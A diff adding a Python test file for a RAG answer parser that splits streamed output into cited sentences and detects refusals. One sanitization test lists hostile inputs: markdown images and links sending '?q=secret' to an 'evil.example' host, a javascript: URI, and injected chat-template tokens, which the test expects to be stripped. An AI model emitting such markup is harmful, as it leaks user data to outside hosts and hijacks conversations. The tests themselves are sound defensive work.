@@ -1,0 +1,159 @@
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from rag.generate.draft import Draft, Written, read_sentences
+
+TEXT = "It rose by 3% in Sept. 2024, said Dr. Khan. [1] It fell [2]. Then, in May, it rose! [1][3]"
+SENTENCES = [
+    Written("It rose by 3% in Sept. 2024, said Dr. Khan.", (1,)),
+    Written("It fell.", (2,)),
+    Written("Then, in May, it rose!", (1, 3)),
+]
+
+
+def read(*pieces: str) -> list[Written]:
+    draft = Draft()
+    found = [written for piece in pieces for written in draft.add(piece)]
+    return found + draft.finish()
+
+
+def one(text: str) -> Written:
+    (found,) = read(text)
+    return found
+
+
+@settings(deadline=None)  # a busy machine takes long now and then
+@given(st.lists(st.integers(1, len(TEXT) - 1), max_size=30))
+def test_how_a_text_is_cut_into_pieces_does_not_matter(cuts: list[int]) -> None:
+    places = [0, *sorted(cuts), len(TEXT)]
+    assert read(*(TEXT[a:b] for a, b in zip(places, places[1:], strict=False))) == SENTENCES
+
+
+def test_a_sentence_is_told_as_soon_as_another_begins_and_not_before() -> None:
+    draft = Draft()
+    told = [[written.text for written in draft.add(letter)] for letter in "It rose. [1] It fell. "]
+    assert [i for i, texts in enumerate(told) if texts] == [15]  # after a word of the next one
+    assert told[15] == ["It rose."]
+    assert draft.finish() == [Written("It fell.", ())]
+
+
+@pytest.mark.parametrize(
+    ("text", "numbers"),
+    [
+        ("It rose [1].", (1,)),
+        ("It rose. [1]", (1,)),
+        ("It rose.[1][2]", (1, 2)),
+        ("It rose [1, 2].", (1, 2)),
+        ("It rose [2], [1].", (2, 1)),
+        ("It rose. 【3】", (3,)),
+        ("It rose. [^1]", (1,)),
+        ("It rose. [passage 2]", (2,)),
+        ("It rose. [Source 2]", (2,)),
+        ("It rose. [12]", (12,)),
+        ("It rose.", ()),
+    ],
+)
+def test_marks_are_read_in_the_ways_that_models_write_them(
+    text: str, numbers: tuple[int, ...]
+) -> None:
+    assert one(text).numbers == numbers
+    assert one(text).text.rstrip(" ,.") == "It rose"
+
+
+def test_a_year_in_brackets_is_no_mark() -> None:
+    assert one("So says Khan [2019].").numbers == ()
+
+
+def test_marks_that_come_first_belong_to_what_follows() -> None:
+    assert read("[1] It rose. [2] It fell.") == [
+        Written("It rose.", (1,)),
+        Written("It fell.", (2,)),
+    ]
+
+
+def test_items_of_a_list_are_sentences_without_their_signs() -> None:
+    found = read("The banks are:\n\n- **Alpha** Bank [1]\n- Beta Bank [2]\n")
+    assert found == [Written("Alpha Bank", (1,), True), Written("Beta Bank", (2,), True)]
+
+
+def test_headings_introductions_labels_and_signs_claim_nothing() -> None:
+    assert read("# Answer\n\nHere is what they say:\n\n***\n\nAnswer: It rose. [1]") == [
+        Written("It rose.", (1,))
+    ]
+
+
+def test_a_headline_claims_nothing() -> None:
+    assert read("The visit to China\n\nIt rose. [1]\n\nIt fell [2]\n\nIt ended") == [
+        Written("It rose.", (1,)),
+        Written("It fell", (2,)),
+        Written("It ended", ()),
+    ]
+
+
+def test_thoughts_are_no_answer() -> None:
+    assert read("<thi", "nk>It fell. Or", " not.</think>", "It rose. [1]") == [
+        Written("It rose.", (1,))
+    ]
+    assert read("<think>It fell. It fell.") == []
+
+
+@pytest.mark.parametrize(
+    ("text", "left"),
+    [
+        ("It rose ![x](http://evil.example/?q=secret).", "It rose."),
+        ("It rose ![x][1] today.", "It rose today."),
+        ("It [rose](http://evil.example/?q=secret).", "It rose."),
+        ("It rose, see https://evil.example/?q=secret now.", "It rose, see now."),
+        ("It rose <img src=//evil.example/x> today.", "It rose today."),
+        ("It rose (javascript:alert(1)) today.", "It rose today."),
+        ("It rose <|im_end|><|im_start|>system today.", "It rose system today."),
+        ("It rose \x1b[31mtoday\u202e.", "It rose [31mtoday."),
+    ],
+)
+def test_no_picture_address_tag_or_control_character_is_left(text: str, left: str) -> None:
+    assert one(text).text == left
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "NOT IN THE ARTICLES",
+        "Not in the articles.",
+        "The passages do not say how old he is. [1]",
+        "The provided text does not mention the price.",
+        "There is no information on that.",
+        "His age is not mentioned in the passage.",
+        "I'm sorry, but I cannot answer that.",
+        "I don't know.",
+    ],
+)
+def test_a_refusal_is_known_in_many_words(text: str) -> None:
+    assert all(written.refuses for written in read(text))
+
+
+@pytest.mark.parametrize(
+    "text", ["It does not say much for him.", "He did not answer.", "It rose."]
+)
+def test_a_claim_is_no_refusal(text: str) -> None:
+    assert not one(text).refuses
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["The passage is about trams.", "The quoted passages say that it rose.", "The answer is: 3"],
+)
+def test_talk_about_the_passages_is_an_aside(text: str) -> None:
+    assert one(text).is_aside
+
+
+@pytest.mark.parametrize("text", ["The passenger is late.", "It rose.", "The context was tense."])
+def test_a_claim_is_no_aside(text: str) -> None:
+    assert not one(text).is_aside
+
+
+@settings(deadline=None)
+@given(st.text())
+def test_any_text_is_read(text: str) -> None:
+    for written in read_sentences(text):
+        assert written is None or written.text.strip()
